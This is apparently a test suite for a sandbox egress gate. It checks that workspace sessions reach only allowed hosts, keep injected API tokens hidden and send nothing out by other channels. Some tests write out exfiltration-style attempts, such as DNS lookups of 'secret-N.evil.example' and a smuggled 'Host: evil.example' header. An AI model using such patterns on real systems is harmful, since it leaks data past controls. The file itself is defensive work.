/**
 * What programs of the workspace can reach, tried from inside: by name and by address, on any port, with and without proxy variables; and
 * that nothing else leaves by any way we know. As a session's user, as root within a session and as root of the whole guest; in a machine
 * that was restored from its saved memory, after its supervisor crashed, and after a restart from nothing.
 */
import dgram from 'node:dgram'
import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import http from 'node:http'
import https from 'node:https'
import net, { type AddressInfo } from 'node:net'
import os from 'node:os'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import tls from 'node:tls'
import { createAuthority } from '../../actors/egress/authority.ts'
import { trustBesides } from '../../actors/egress/network.ts'
import { startWorkspace, type Workspace } from '../harness/network.ts'
import { attempts, channels } from './egress-attempts.ts'

let workspace: Workspace
let page: http.Server
let echo: net.Server
let pagePort: number
let echoPort: number
let secure: https.Server
let securePort: number
const trustedBefore = tls.getCACertificates('default')
const token = 'tok-made-up-Zm9vYmFy'
const tokens: string[] = []
const seen: string[] = []
let echoed = 0
/** What anyone sent to this machine by a way that does not go through the gate. */
const caught = { ports: { udp: 0, tcp: 0 }, arrived: 0, close: (): void => undefined }
const addresses = Object.values(os.networkInterfaces()).flatMap((list) =>
  (list ?? []).filter(({ internal, family }) => !internal && family === 'IPv4'),
)
/** This machine's own; without a network, one like it. */
const own = addresses.length > 0 ? addresses.map(({ address }) => address) : ['192.168.7.1']
/** Names that policy allows, and that lead inside. */
const inside = ['x.private.example', 'six.private.example', 'nat.private.example']

beforeAll(async () => {
  page = http.createServer((request, response) => {
    seen.push(`${request.method} ${request.headers.host}${request.url}`)
    if (request.url === '/drip') return void response.write('first\n')
    if (request.url === '/large') return void response.end(Buffer.alloc(4 * 1024 * 1024, 'x'))
    return void response.end('the page\n')
  })
  echo = net.createServer({ allowHalfOpen: true }, (socket) => {
    socket.on('error', () => undefined)
    socket.on('data', (bytes) => (echoed += bytes.length))
    socket.pipe(socket)
  })
  // A host of the internet, with a certificate this machine trusts.
  const company = createAuthority()
  trustBesides(await company.certificate())
  const context = await company.contextFor('s.example')
  secure = https.createServer({ SNICallback: (_name, done) => done(null, context) }, (request, response) => {
    tokens.push(`${request.method} ${request.url} ${request.headers.authorization ?? 'none'}`)
    response.end(`you sent ${request.headers.authorization ?? 'none'}\n`)
  })
  for (const server of [page, echo, secure]) {
    server.listen(0, '127.0.0.1')
    await once(server, 'listening')
  }
  pagePort = (page.address() as AddressInfo).port
  echoPort = (echo.address() as AddressInfo).port
  securePort = (secure.address() as AddressInfo).port
  const udp = dgram.createSocket('udp4', () => (caught.arrived += 1)).bind(0)
  const tcp = net.createServer((socket) => {
    caught.arrived += 1
    socket.destroy()
  })
  await Promise.all([once(udp, 'listening'), once(tcp.listen(0), 'listening')])
  caught.ports = { udp: udp.address().port, tcp: (tcp.address() as AddressInfo).port }
  caught.close = () => (udp.close(), void tcp.close())
  await begin({})
})
afterAll(async () => {
  await workspace?.stop()
  caught.close()
  for (const server of [page, secure]) {
    server.closeAllConnections()
    server.close()
  }
  echo.close()
  tls.setDefaultCACertificates(trustedBefore)
})

async function begin(how: Parameters<typeof startWorkspace>[0]): Promise<void> {
  workspace = await startWorkspace(how)
  for (const session of ['open', 'other', 'closed']) await workspace.attach(session)
  await workspace.network('open', reachable)
  await workspace.network('other', ['b.example'])
}

/** `s.example` has a secret, and few things may be asked of it. */
async function readRequests(): Promise<void> {
  await workspace.rule({ change: 'request', rule: { host: 's.example', methods: ['GET'], path: '/v1/**' } })
  await workspace.secret('api', 's.example', securePort, token)
}

/** A Python program, as one shell word. */
const python = (code: string) => `python3 - <<'PYTHON'\n${code}\nPYTHON`
const direct = "--noproxy '*'"

const reachable = ['a.example', '203.0.113.7', 's.example', ...inside]
const whos = ['session', 'root', 'machine'] as const
type Who = (typeof whos)[number]
/** How many ways are tried: to what is not allowed, and beside all that; they stand in the specification too. */
const counts = { attempts: 350, session: 78, root: 64, machine: 64 } as const

/** Every name, spelling and shape of the catalogue, as one who may reach a.example alone; counts what the origin heard. */
async function reachesNothingElse(who: Who): Promise<string[]> {
  workspace.lookedUp()
  const ran = await workspace.exec('open', python(attempts({ allowed: 'a.example', port: pagePort, echoPort, own, inside })), who)
  const { tried, through } = JSON.parse(ran.stdout.trim() || '{}') as { tried?: number; through?: string[] }
  expect([through, ran.stderr.includes('Traceback')], ran.stderr.slice(-500)).toEqual([[], false])
  expect(tried).toBe(counts.attempts)
  expect(seen.filter((line) => line.includes('/stolen') && !line.includes(` a.example:${pagePort}/`))).toEqual([])
  return workspace.lookedUp().filter((name) => name !== 'a.example' && !inside.includes(name))
}

/** Bytes that the machine's process sent by a network of its own, as the host's kernel counts them: it has one with nothing in it. */
async function sentByMachine(): Promise<number> {
  const lines = readFileSync(`/proc/${(await workspace.status()).pid}/net/dev`, 'utf8')
    .trim()
    .split('\n')
    .slice(2)
  return lines.reduce((sum, line) => sum + Number(line.split(':')[1]?.trim().split(/\s+/)[8]), 0)
}

/** Tries them all from inside, as a session that may reach nothing, and counts what arrived anywhere. */
async function carriesNothing(who: Who): Promise<number> {
  workspace.lookedUp()
  const before = { seen: seen.length, echoed, arrived: caught.arrived, decisions: (await workspace.decisions()).length }
  const ran = await workspace.exec('closed', python(channels({ ...caught.ports, own })), who)
  // Root may make any socket; its packets stay in a machine that has no card, which is what counts below.
  expect(ran.stdout.trim(), ran.stderr).toMatch(who === 'session' ? /^\d+ \[\]$/ : /^\d+ \[.*\]$/)
  expect(ran.stdout).not.toContain('vport')
  expect(Number.parseInt(ran.stdout, 10)).toBe(counts[who])
  expect({ seen: seen.length, echoed, arrived: caught.arrived }).toEqual({
    seen: before.seen,
    echoed: before.echoed,
    arrived: before.arrived,
  })
  expect(workspace.lookedUp()).toEqual([])
  expect(await sentByMachine()).toBe(0)
  return (await workspace.decisions()).length - before.decisions
}

describe('what is allowed', () => {
  test('is reached by any program, by name, on any port, with no variable set', async () => {
    const ran = await workspace.exec('open', `curl -sS ${direct} http://a.example:${pagePort}/x`)
    expect([ran.stdout, ran.exitCode]).toEqual(['the page\n', 0])
    const raw = await workspace.exec(
      'open',
      python(`
import socket
s = socket.create_connection(("a.example", ${echoPort}))
s.sendall(b"hello " * 1000)
s.shutdown(socket.SHUT_WR)
got = b""
while True:
    more = s.recv(65536)
    if not more: break
    got += more
print(len(got), got[:6])`),
    )
    expect(raw.stdout.trim()).toBe("6000 b'hello '")
  })
  test('is reached through the proxy variables as well', async () => {
    const ran = await workspace.exec(
      'open',
      `curl -sS http://a.example:${pagePort}/y; curl -sS -x socks5h://127.0.0.1:1080 http://a.example:${pagePort}/z`,
    )
    expect(ran.stdout).toBe('the page\nthe page\n')
    expect(seen.slice(-2)).toEqual([`GET a.example:${pagePort}/y`, `GET a.example:${pagePort}/z`])
  })
  test('large answers arrive whole', async () => {
    const ran = await workspace.exec('open', `curl -sS ${direct} http://a.example:${pagePort}/large | wc -c`)
    expect(ran.stdout.trim()).toBe(String(4 * 1024 * 1024))
  })
  test('more than any window goes both ways, while another connection stands still; each half ends by itself, and a reset arrives', async () => {
    const ran = await workspace.exec(
      'open',
      python(`
import socket, struct, threading
def connected(): return socket.create_connection(("a.example", ${echoPort}))
stuck = connected()
stuck.setblocking(False)
try:
    while True: stuck.send(b"x" * 65536)
except BlockingIOError: pass
sent = bytes(range(256)) * 4096 * 3
def both_ways(s, results):
    def send():
        s.sendall(sent)
        s.shutdown(socket.SHUT_WR)
    sender = threading.Thread(target=send)
    sender.start()
    got = bytearray()
    while True:
        more = s.recv(65536)
        if not more: break
        got += more
    sender.join()
    results.append(bytes(got) == sent)
results = []
all = [threading.Thread(target=both_ways, args=(connected(), results)) for _ in range(3)]
for one in all: one.start()
for one in all: one.join()
stuck.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
stuck.close()
print(results)`),
    )
    expect(ran.stdout.trim(), ran.stderr).toBe('[True, True, True]')
    await expect.poll(() => new Promise((resolve) => echo.getConnections((_error, count) => resolve(count)))).toBe(0)
  })
})

describe('what is not allowed', () => {
  test.each([
    ['another host', 'open', () => `http://b.example:${pagePort}/`, 'b.example'],
    ["another session's host", 'other', () => `http://a.example:${pagePort}/`, 'a.example'],
    ['an address that is not listed', 'open', () => `http://198.51.100.1:${pagePort}/`, '198.51.100.1'],
    ['an IPv6 address', 'open', () => `http://[2001:db8::1]:${pagePort}/`, '[2001:db8::1]'],
    ['an allowed name that leads inside', 'open', () => `http://x.private.example:${pagePort}/`, 'x.private.example'],
  ])('%s: refused, and the program’s output says why', async (_what, session, url, host) => {
    const before = seen.length
    const ran = await workspace.exec(session, `curl -sS -m 60 ${direct} '${url()}'`)
    expect(ran.exitCode).not.toBe(0)
    expect(ran.stderr).toContain(`bulkhead: no connection to ${host}:`)
    expect(seen.length).toBe(before)
  })
  test('a session without a network reaches nothing', async () => {
    expect((await workspace.exec('closed', `curl -sS -m 60 ${direct} http://a.example:${pagePort}/`)).exitCode).not.toBe(0)
  })
  test('through the proxy, the refusal comes in words', async () => {
    const ran = await workspace.exec('open', `curl -sS http://b.example:${pagePort}/`)
    expect(ran.stdout).toContain('Bulkhead: b.example')
    expect(ran.stdout).toContain('Rule: hosts: not listed')
  })
  test('another name inside an allowed connection', async () => {
    const ran = await workspace.exec('open', `curl -sS -m 60 ${direct} -H 'Host: evil.example' http://a.example:${pagePort}/`)
    expect(ran.exitCode).not.toBe(0)
    expect(seen.some((line) => line.includes('evil.example'))).toBe(false)
  })
})

/** All of the catalogue, as each of the three. */
function wholeCatalogue(): void {
  test.each(whos)('no other way out carries a byte, as %s', async (who) => {
    expect(await carriesNothing(who)).toBe(0)
  })
  test.each(whos)('no name, spelling or shape reaches what is not allowed, as %s', async (who) => {
    expect(await reachesNothingElse(who)).toEqual([])
  })
}
test('the specification says how many', () => {
  const text = readFileSync(new URL('../../docs/SPECIFICATION.md', import.meta.url), 'utf8')
  expect(text).toContain(`(${counts.session} ways as a session, ${counts.root} as root, and the machine's ports)`)
  expect(text).toContain(`none of the ${counts.attempts} names, spellings and shapes`)
})

describe('in a machine restored from its saved memory', () => {
  test('which this one is', async () => expect((await workspace.status()).start).toBe('restored'))
  wholeCatalogue()
  test('a name is never looked up for asking, only for connecting to a host that is allowed', async () => {
    workspace.lookedUp()
    const names = Array.from({ length: 5 }, (_, at) => `secret-${at}.evil.example`).join(' ')
    const ran = await workspace.exec(
      'open',
      `for n in ${names}; do getent ahostsv4 $n | head -1; curl -sS -m 30 ${direct} http://$n/; done`,
    )
    expect(ran.stdout).toMatch(/^198\.1[89]\./)
    expect(workspace.lookedUp()).toEqual([])
  })
})

describe('a host whose requests are read', () => {
  test('programs trust what they meet there; a secret arrives and does not come back; what may not be asked is refused in words', async () => {
    await readRequests()
    const at = `https://s.example:${securePort}`
    const ran = await workspace.exec(
      'open',
      [
        `curl -sS ${direct} -H 'Authorization: Bearer my-own' ${at}/v1/curl`,
        `curl -sS ${at}/v1/proxied`,
        python(
          `import urllib.request; print(urllib.request.build_opener(urllib.request.ProxyHandler({})).open("${at}/v1/python").read().decode().strip())`,
        ),
        `curl -sS ${direct} -X POST -d x ${at}/v1/curl`,
        `curl -sS ${direct} ${at}/v2`,
        'env',
      ].join('\n'),
    )
    expect(ran.stdout.match(/you sent Bearer \[key\]/g), ran.stderr).toHaveLength(3)
    expect(tokens).toEqual(['curl', 'proxied', 'python'].map((name) => `GET /v1/${name} Bearer ${token}`))
    expect(ran.stdout.match(/Rule: request rules/g)).toHaveLength(2)
    expect(`${ran.stdout}${ran.stderr}`).not.toContain(token)
  })
  test('a program that does not trust it gets nothing, and neither does the host', async () => {
    const ran = await workspace.exec(
      'open',
      `SSL_CERT_FILE= CURL_CA_BUNDLE=/dev/null curl -sS -m 60 ${direct} https://s.example:${securePort}/v1/x`,
    )
    expect(ran.exitCode).not.toBe(0)
    expect(tokens.some((line) => line.includes('/v1/x'))).toBe(false)
  })
})

test('a rule cuts what is open', async () => {
  const running = workspace.exec('open', `curl -sSN -m 120 ${direct} http://a.example:${pagePort}/drip`)
  await expect.poll(() => seen.at(-1)).toContain('/drip')
  await workspace.rule({ change: 'deny', pattern: 'a.example' })
  const ran = await running
  expect(ran.exitCode).not.toBe(0)
  expect(ran.stderr).toContain('deny a.example (egress rules)')
  await workspace.rule({ change: 'forget', pattern: 'a.example' })
})

/** What a session may reach is still what it was told, in a machine that is another. */
async function reachesTheSame(): Promise<void> {
  const ran = await workspace.exec(
    'open',
    `curl -sS ${direct} http://a.example:${pagePort}/x; curl -sS -m 60 ${direct} http://b.example:${pagePort}/`,
  )
  expect(ran).toMatchObject({ stdout: 'the page\n', stderr: expect.stringContaining('bulkhead: no connection to b.example') })
  expect((await workspace.exec('closed', `curl -sS -m 60 ${direct} http://a.example:${pagePort}/`)).exitCode).not.toBe(0)
  const read = await workspace.exec('open', `curl -sS ${direct} https://s.example:${securePort}/v1/again`)
  expect(read.stdout, read.stderr).toContain('you sent Bearer [key]')
}

test('after a restart a session reaches what it did, and nothing more', async () => {
  await workspace.restart()
  await reachesTheSame()
  expect((await workspace.status()).start).toBe('restored')
})

describe('after the supervisor crashed', () => {
  test('what a session may reach is forgotten until it is told again', async () => {
    await workspace.crash()
    await workspace.attach('open')
    const ask = `curl -sS -m 60 ${direct} http://a.example:${pagePort}/x`
    expect((await workspace.exec('open', ask)).exitCode).not.toBe(0)
    await workspace.attach('closed')
    await workspace.network('open', reachable)
    expect((await workspace.exec('open', ask)).stdout).toBe('the page\n')
  })
  wholeCatalogue()
})

describe('after a restart from nothing', () => {
  test('a session reaches what it did, and nothing more', async () => {
    await workspace.stop()
    await begin({ restores: false })
    await readRequests()
    await reachesTheSame()
    await workspace.restart()
    await reachesTheSame()
    expect((await workspace.status()).start).toBe('cold')
  })
  wholeCatalogue()
})
